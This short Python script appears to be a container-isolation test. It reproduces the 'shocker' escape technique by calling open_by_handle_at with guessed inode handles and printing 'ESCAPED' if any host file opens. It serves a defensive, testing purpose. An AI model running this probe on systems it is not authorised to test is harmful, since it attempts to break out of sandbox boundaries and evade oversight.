# Tries: open files by handles that are guessed (open_by_handle_at), as "shocker" did.
# Contained: no file is opened by its number.
import ctypes
import os
import struct

number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
libc = ctypes.CDLL(None, use_errno=True)
start = os.open("/", os.O_RDONLY)
for inode in (2, 64, 96, 128, 256, 1024):
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, inode))
    fd = libc.syscall(number, start, handle, os.O_RDONLY)
    if fd >= 0:
        print("ESCAPED: opened inode", inode, "which is", os.listdir(fd)[:5])
    else:
        print(os.strerror(ctypes.get_errno()))
